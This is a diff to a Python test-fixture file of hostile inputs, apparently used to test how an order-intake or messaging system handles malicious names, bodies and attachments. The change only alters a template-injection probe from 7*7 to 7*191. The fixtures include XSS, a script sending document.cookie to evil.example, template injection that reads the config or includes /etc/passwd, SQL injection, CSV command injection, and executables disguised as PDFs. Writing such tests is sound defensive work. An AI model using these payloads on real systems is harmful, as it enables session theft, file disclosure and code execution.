@@ -35,7 +35,7 @@ _NAMES = (
     ("a script", '"<script>alert(1)</script>"'),
     ("an image", '"<img src=x onerror=alert(1)>"'),
     ("a link", '"https://evil.example/login"'),
-    ("a template", '"{{ company.inbox }}{{ 7*7 }}"'),
+    ("a template", '"{{ company.inbox }}{{ 7*191 }}"'),
     ("a statement", "\"{% include '/etc/passwd' %}\""),
     ("a formula", '"=HYPERLINK(A1)"'),
     ("a quote of SQL", '"Robert\'); DROP TABLE clients;--"'),
@@ -45,11 +45,11 @@ _NAMES = (
 )
 
 _BODIES = (
-    ("a template expression", "PO: {{ 7*7 }} {{ self.__init__.__globals__ }}"),
+    ("a template expression", "PO: {{ 7*191 }} {{ self.__init__.__globals__ }}"),
     ("a template loop", "PO: {% for x in range(9999999) %}x{% endfor %}"),
     (
         "a template that reads the configuration",
-        "PO: {{ config.items() }} ${7*7} #{7*7} <%= 7*7 %>",
+        "PO: {{ config.items() }} ${7*191} #{7*191} <%= 7*191 %>",
     ),
     ("a script", "PO: <script>fetch('//evil.example/'+document.cookie)</script>"),
     ("a style that fetches", "PO: <style>@import '//evil.example/x.css';</style>"),
@@ -83,7 +83,7 @@ _FILES = (
     File("C:\\Windows\\System32\\calc.exe", b"MZ\x90\x00", "application/pdf"),
     File("order\r\nBcc: all@evil.example.pdf".replace("\r\n", " "), b"%PDF-1.4", "application/pdf"),
     File("=cmd|' /C calc'!A0.csv", "PO;=cmd|' /C calc'!A0\nPO number;=1+1", "text/csv"),
-    File("{{ 7*7 }}.txt", "{{ 7*7 }}", "text/plain"),
+    File("{{ 7*191 }}.txt", "{{ 7*191 }}", "text/plain"),
     File("<img src=x onerror=alert(1)>.txt", "see name", "text/plain"),
     File("'; DROP TABLE message;--.txt", "see name", "text/plain"),
     File("po.pdf\u202efdp.exe", b"MZ", "application/octet-stream"),
